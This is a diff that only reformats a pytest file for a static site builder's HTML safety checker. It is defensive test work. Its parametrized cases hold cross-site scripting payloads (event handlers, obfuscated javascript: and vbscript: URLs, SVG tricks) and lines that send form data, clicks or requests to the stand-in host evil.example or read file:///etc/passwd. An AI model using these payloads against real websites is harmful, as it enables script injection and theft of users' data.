@@ -30,8 +30,13 @@ def page(body: str, config=CONFIG) -> list[str]:
 
 
 def test_a_clean_page_passes():
-    assert page('<p><a href="https://www.ons.gov.uk/">ONS</a> <a href="#x">x</a></p>'
-                '<img src="img/step-1.svg" alt=""><svg><path d="M0 0"/></svg>') == []
+    assert (
+        page(
+            '<p><a href="https://www.ons.gov.uk/">ONS</a> <a href="#x">x</a></p>'
+            '<img src="img/step-1.svg" alt=""><svg><path d="M0 0"/></svg>'
+        )
+        == []
+    )
 
 
 @pytest.mark.parametrize(
@@ -39,50 +44,80 @@ def test_a_clean_page_passes():
     [
         ('<p onclick="alert(1)">x</p>', "an event handler onclick= on <p>"),
         ("<img src=x OnError=alert(1)>", "an event handler onerror= on <img>"),
-        ('<svg><set attributeName="onmouseover" to="alert(1)"/><animate onbegin="alert(1)"/></svg>',
-         "an event handler onbegin= on <animate>"),
+        (
+            '<svg><set attributeName="onmouseover" to="alert(1)"/>'
+            '<animate onbegin="alert(1)"/></svg>',
+            "an event handler onbegin= on <animate>",
+        ),
         ('<a href="&#106;avascript:alert(1)">x</a>', "a javascript: URL in href= on <a>"),
         ('<a href="  java&#x09;script:alert(1)">x</a>', "a javascript: URL in href= on <a>"),
         ('<a href="JaVaScRiPt:alert(1)">x</a>', "a javascript: URL in href= on <a>"),
         ('<a href="vbscript:msgbox(1)">x</a>', "a vbscript: URL in href= on <a>"),
         ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "a data: URL in href= on <a>"),
         ('<img src="data:image/svg+xml,<svg onload=alert(1)>">', "a data: URL in src= on <img>"),
-        ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-         "a javascript: URL in xlink:href= on <a>"),
-        ('<svg><a href="#"><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
-         "an SVG <set> setting a javascript: URL"),
-        ('<math><mi href="javascript:alert(1)">x</mi></math>',
-         "a javascript: URL in href= on <mi>"),
+        (
+            '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+            "a javascript: URL in xlink:href= on <a>",
+        ),
+        (
+            '<svg><a href="#"><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
+            "an SVG <set> setting a javascript: URL",
+        ),
+        (
+            '<math><mi href="javascript:alert(1)">x</mi></math>',
+            "a javascript: URL in href= on <mi>",
+        ),
         ('<iframe src="https://example.org/"></iframe>', "a <iframe> element"),
         ('<object data="x.swf"></object>', "a <object> element"),
         ('<embed src="x.swf">', "a <embed> element"),
         ('<base href="https://evil.example/">', "a <base> element"),
-        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-         '<meta http-equiv="refresh">'),
-        ('<form action="https://evil.example/steal"><input name="q"></form>',
-         "a form sending to evil.example"),
-        ('<form><button formaction="//evil.example/x">Go</button></form>',
-         "a form sending to evil.example"),
-        ('<img src="https://evil.example/t.png" alt="">',
-         "<img src=…> loading from evil.example"),
-        ('<img srcset="a.png 1x, https://evil.example/b.png 2x" alt="">',
-         "<img src=…> loading from evil.example"),
+        (
+            '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+            '<meta http-equiv="refresh">',
+        ),
+        (
+            '<form action="https://evil.example/steal"><input name="q"></form>',
+            "a form sending to evil.example",
+        ),
+        (
+            '<form><button formaction="//evil.example/x">Go</button></form>',
+            "a form sending to evil.example",
+        ),
+        ('<img src="https://evil.example/t.png" alt="">', "<img src=…> loading from evil.example"),
+        (
+            '<img srcset="a.png 1x, https://evil.example/b.png 2x" alt="">',
+            "<img src=…> loading from evil.example",
+        ),
         ('<script src="//evil.example/x.js"></script>', "<script src=…> loading from evil.example"),
-        ('<link rel="stylesheet" href="https://evil.example/x.css">',
-         "<link href=…> loading from evil.example"),
-        ('<video poster="https://evil.example/p.jpg"></video>',
-         "<video poster=…> loading from evil.example"),
-        ('<p style="background:url(https://evil.example/x.png)">x</p>',
-         "a style= on <p> loading from evil.example"),
-        ("<style>@import 'https://evil.example/x.css';</style>",
-         "a <style> element loading from evil.example"),
-        ('<a href="x.html" ping="https://evil.example/track">x</a>',
-         "ping= sending clicks to evil.example"),
-        ('<svg><image href="https://evil.example/i.png"/></svg>',
-         "<image href=…> loading from evil.example"),
+        (
+            '<link rel="stylesheet" href="https://evil.example/x.css">',
+            "<link href=…> loading from evil.example",
+        ),
+        (
+            '<video poster="https://evil.example/p.jpg"></video>',
+            "<video poster=…> loading from evil.example",
+        ),
+        (
+            '<p style="background:url(https://evil.example/x.png)">x</p>',
+            "a style= on <p> loading from evil.example",
+        ),
+        (
+            "<style>@import 'https://evil.example/x.css';</style>",
+            "a <style> element loading from evil.example",
+        ),
+        (
+            '<a href="x.html" ping="https://evil.example/track">x</a>',
+            "ping= sending clicks to evil.example",
+        ),
+        (
+            '<svg><image href="https://evil.example/i.png"/></svg>',
+            "<image href=…> loading from evil.example",
+        ),
         ('<img src="file:///etc/passwd">', "<img src=…> loading from file:"),
-        ('<noscript><img src="https://evil.example/t.png"></noscript>',
-         "<img src=…> loading from evil.example"),
+        (
+            '<noscript><img src="https://evil.example/t.png"></noscript>',
+            "<img src=…> loading from evil.example",
+        ),
     ],
 )
 def test_refused(body, found):
@@ -96,37 +131,55 @@ def test_another_content_security_policy_is_refused():
 
 
 def test_the_basemap_host_is_allowed_for_images():
-    basemap = CONFIG.maps.model_copy(update={"basemap": BasemapSection(
-        url="https://{s}.tile.example.org/{z}/{x}/{y}.png", attribution="Tiles")})
+    basemap = CONFIG.maps.model_copy(
+        update={
+            "basemap": BasemapSection(
+                url="https://{s}.tile.example.org/{z}/{x}/{y}.png", attribution="Tiles"
+            )
+        }
+    )
     config = CONFIG.model_copy(update={"maps": basemap})
     body = '<img src="https://a.tile.example.org/1/2/3.png" alt="">'
     assert page(body, config) == []
     assert page(body) == ["<img src=…> loading from a.tile.example.org"]
 
 
-@pytest.mark.parametrize("url, scheme", [
-    ("javascript:x", "javascript"), (" \x01java\nscript:x", "javascript"), ("wards/x.html", ""),
-    ("https://x", "https"), ("#a:b", ""), ("./a:b", ""),
-])
+@pytest.mark.parametrize(
+    "url, scheme",
+    [
+        ("javascript:x", "javascript"),
+        (" \x01java\nscript:x", "javascript"),
+        ("wards/x.html", ""),
+        ("https://x", "https"),
+        ("#a:b", ""),
+        ("./a:b", ""),
+    ],
+)
 def test_scheme_as_a_browser_reads_it(url, scheme):
     assert scheme_of(url) == scheme
 
 
 def test_the_error_names_the_chapter_file(tmp_path: Path):
-    (tmp_path / "connectivity.html").write_text(add_policy(PAGE.format(
-        body='<p onclick="x()">x</p>')), "utf-8")
+    (tmp_path / "connectivity.html").write_text(
+        add_policy(PAGE.format(body='<p onclick="x()">x</p>')), "utf-8"
+    )
     (tmp_path / "wards").mkdir()
-    (tmp_path / "wards" / "a.html").write_text(add_policy(PAGE.format(
-        body="<img src=//evil.example/x>")), "utf-8")
+    (tmp_path / "wards" / "a.html").write_text(
+        add_policy(PAGE.format(body="<img src=//evil.example/x>")), "utf-8"
+    )
     pages = [Page("connectivity.md", "Connectivity", "")]
     with pytest.raises(Exception) as info:
         check_built_pages(CONFIG, tmp_path, pages)
     problems = info.value.problems
-    assert problems[0].startswith("chapters/05-connectivity.md: the built page connectivity.html "
-                                  "holds an event handler onclick= on <p>")
-    assert problems[1].startswith("wards/a.html: the built page holds <img src=…> loading from "
-                                  "evil.example. This page is made from the data files and "
-                                  "site_config.yml")
+    assert problems[0].startswith(
+        "chapters/05-connectivity.md: the built page connectivity.html "
+        "holds an event handler onclick= on <p>"
+    )
+    assert problems[1].startswith(
+        "wards/a.html: the built page holds <img src=…> loading from "
+        "evil.example. This page is made from the data files and "
+        "site_config.yml"
+    )
 
 
 def test_the_built_site_passes(built_site):
